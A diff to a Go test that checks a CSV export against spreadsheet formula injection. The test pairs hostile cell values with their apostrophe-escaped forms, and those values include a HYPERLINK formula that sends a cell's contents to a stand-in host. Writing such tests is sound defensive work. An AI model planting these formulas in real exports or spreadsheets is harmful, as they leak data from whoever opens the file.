@@ -113,9 +113,15 @@ func TestExportCSV(t *testing.T) {
 // TestExportedCellsAreNotRun: a spreadsheet that opens the file computes nothing.
 func TestExportedCellsAreNotRun(t *testing.T) {
 	w := newWorld(t)
-	hostile := []string{
-		`=HYPERLINK("http://x/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "= 1",
-		"a=1", "'=1", "a,=1", "a\n=1", `"=1`, "bad \xff utf8",
+	var hostile, told []string
+	for _, c := range [][2]string{
+		{`=HYPERLINK("http://x/?"&A1,"click")`, `'=HYPERLINK("http://x/?"&A1,"click")`},
+		{"+1+1", "'+1+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"},
+		{"\r=1", "'\r'=1"}, {"= 1", "'= 1"}, {" =1", " '=1"}, {"a=1", "a=1"}, {"'=1", "'=1"},
+		{"a,=1", "a,=1"}, {"a\n=1", "a\n'=1"}, {`ok; =HYPERLINK("x";"y")`, `ok; '=HYPERLINK("x";"y")`},
+		{"a\t=1", "a\t'=1"}, {`"=1`, `"=1`}, {"bad \xff utf8", "bad \ufffd utf8"},
+	} {
+		hostile, told = append(hostile, c[0]), append(told, c[1])
 	}
 	w.receiveAll(101, hostile...)
 	lines := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101")).table(t)
@@ -123,11 +129,7 @@ func TestExportedCellsAreNotRun(t *testing.T) {
 		t.Fatalf("%d lines", len(lines))
 	}
 	for i, line := range lines {
-		want := strings.ToValidUTF8(hostile[i], "\ufffd")
-		if i < 7 {
-			want = "'" + want
-		}
-		if line["text"] != want {
+		if line["text"] != told[i] {
 			t.Errorf("%q is %q", hostile[i], line["text"])
 		}
 	}
